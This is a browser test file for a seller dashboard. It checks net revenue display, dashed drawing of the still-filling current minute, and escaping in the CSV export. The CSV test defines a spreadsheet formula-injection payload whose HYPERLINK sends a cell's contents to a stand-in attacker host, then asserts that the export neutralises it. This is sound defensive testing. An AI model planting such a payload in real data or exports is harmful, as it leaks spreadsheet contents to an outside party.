// The seller view's numbers in headless Chromium against the real gateway: net revenue in
// the KPIs and top products (issue 17 item 1), the still-filling minute drawn as what it is
// in the minute chart and the KPI sparklines (item 6), and CSV export escaping (issue 10).
import { readFileSync } from 'node:fs'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { eventually } from '../../test/support/eventually.ts'
import { ingest, startGateway, tokenFor, type TestGateway } from '../../test/support/gateway.ts'
import { launch, openPage, patient, screenshot, type OpenPage } from './browser.ts'
import { closeAfterFile } from './browser-file.ts'

let gw: TestGateway
let browser: Browser
const opened: OpenPage[] = []
let trickle: ReturnType<typeof setInterval> | undefined

const minute = 60_000
const hour = 3_600_000
const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
const line = (shop: string, id: string, ts: number, quantity: number, unit_price: number, status = 'completed', product_id = 'p-1') =>
  ({ order_id: id, ts, shop_id: shop, customer_id: `c-${id}`, product_id, category: 'shoes', quantity, unit_price, unit_cost: 10, status })

beforeAll(async () => {
  browser = await launch()
  gw = await startGateway({ DEMO_RATE: '0', LIVE_TICK_MS: '250' })
  const now = Date.now()
  // ui-net: 3 × $100 sold two hours ago, 1 returned an hour ago: net $200, gross $300, refunds $100.
  expect((await ingest(gw, 'orders', [line('ui-net', 'o1', now - 2 * hour, 3, 100), line('ui-net', 'o1', now - hour, 1, 100, 'refunded')])).status).toBe(200)
  // ui-open: complete minutes, a product id a spreadsheet would run, and a line every second in the current minute.
  expect((await ingest(gw, 'orders', [line('ui-open', 'a1', now - 3 * minute, 1, 50), line('ui-open', 'a2', now - 2 * minute, 2, 50, 'completed', evil)])).status).toBe(200)
  let n = 0
  trickle = setInterval(() => void ingest(gw, 'orders', [line('ui-open', `t${n++}`, Date.now(), 1, 0.01, 'completed', 'p-trickle')]).catch(() => {}), 1000)
}, 600_000)

closeAfterFile(() => ({ opened, browser, gateways: [gw] }))
// Registered last, so it runs first: no trickle request at a gateway being stopped.
afterAll(() => clearInterval(trickle))

async function sellerPage(shops: string[]) {
  const p = await openPage(browser, gw.url, { token: await tokenFor(['seller'], { shops }) })
  opened.push(p)
  await p.page.goto('/#/seller')
  await p.page.getByTestId('seller-view').waitFor()
  return p
}
const text = async (page: Page, testid: string) => (await page.getByTestId(testid).textContent())?.replace(/\s+/g, ' ').trim()

// Waits have deadlines far above a quiet run's (the default 60 s test timeout is not): the machine may be loaded.
describe('seller view in Chromium', { timeout: 600_000 }, () => {
  it('KPIs and top products show net revenue, with gross and refunds beside it', async () => {
    const { page, errors } = await sellerPage(['ui-net'])
    // The old view showed the gross $300.00 here.
    await eventually(async () => expect(await text(page, 'kpi-revenue')).toBe('$200.00'), patient)
    // The other KPIs are other elements than the one waited for.
    await expect.poll(() => text(page, 'kpi-revenue-detail'), { timeout: patient.timeoutMs }).toBe('gross $300.00 − refunds $100.00')
    await expect.poll(() => text(page, 'kpi-orders'), { timeout: patient.timeoutMs }).toBe('1')
    await expect.poll(() => text(page, 'kpi-aov'), { timeout: patient.timeoutMs }).toBe('$200.00')
    await eventually(async () => {
      const cells = await page.locator('[data-testid="top-products"] tbody tr').first().locator('td').allTextContents()
      expect(cells).toEqual(['p-1', 'shoes', 'USD', '$200.00', '2', '1', '$300.00', '$100.00'])
    }, patient)
    expect(errors).toEqual([])
  })

  it('the minute chart and the KPI sparklines draw the current minute dashed, apart from the complete ones, and say so', async () => {
    const { page, errors } = await sellerPage(['ui-open'])
    const chart = page.getByTestId('sales-chart')
    await eventually(async () => {
      const openT = Number(await chart.getAttribute('data-open-t'))
      const lastClosed = Number(await chart.getAttribute('data-last-closed-t'))
      const current = Math.floor(Date.now() / minute) * minute
      // The newest point is this minute's, and the solid line stops at a minute before it.
      expect([current - minute, current]).toContain(openT)
      expect(lastClosed).toBeGreaterThan(0)
      expect(lastClosed).toBeLessThan(openT)
      expect(await chart.locator('figcaption').textContent()).toContain(`Dashed: the minute from ${new Date(openT).toISOString().slice(11, 16)} UTC, still filling (so far, not projected)`)
    }, patient)
    await eventually(async () => {
      const legend = await chart.locator('.u-legend .u-series').allTextContents()
      expect(legend.some((l) => l.includes('net revenue, this minute so far'))).toBe(true)
      expect(legend.some((l) => l.includes('orders, this minute so far'))).toBe(true)
    }, patient)
    // Each KPI sparkline marks the same open minute, and its label names the dashed part.
    await eventually(async () => {
      const sparks = page.locator('[data-testid="kpis"] .spark')
      expect(await sparks.count()).toBe(4)
      const opens = await sparks.evaluateAll((els) => els.map((e) => Number(e.getAttribute('data-open-t'))))
      expect(new Set(opens).size).toBe(1)
      expect(opens[0]).toBeGreaterThan(0)
    }, patient)
    await expect.poll(() => page.locator('[data-testid="kpis"] .spark .chart').first().getAttribute('aria-label'), { timeout: patient.timeoutMs }).toContain('dashed: current minute so far')
    await expect.poll(() => text(page, 'open-bucket-note'), { timeout: patient.timeoutMs }).toContain('the dashed end is the current minute, still filling')
    await screenshot(page, 'seller-open-minute')
    expect(errors).toEqual([])
  })

  it('CSV export of top products escapes a product id a spreadsheet would run as a formula', async () => {
    const { page, errors } = await sellerPage(['ui-open'])
    const table = page.locator('[data-testid="top-products"]')
    await eventually(async () => expect(await table.locator('tbody tr td').first().textContent()).toBe(evil), patient)
    const [download] = await Promise.all([page.waitForEvent('download'), table.getByRole('button', { name: 'Export CSV' }).click()])
    const csv = readFileSync((await download.path())!, 'utf8').split('\r\n')
    expect(csv[0]).toBe('Product,Category,Currency,Net revenue,Net units,Orders,Gross,Refunds')
    expect(csv[1].startsWith(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""open"")",shoes,USD,100,2,1,100,0`)).toBe(true)
    expect(errors).toEqual([])
  })
})
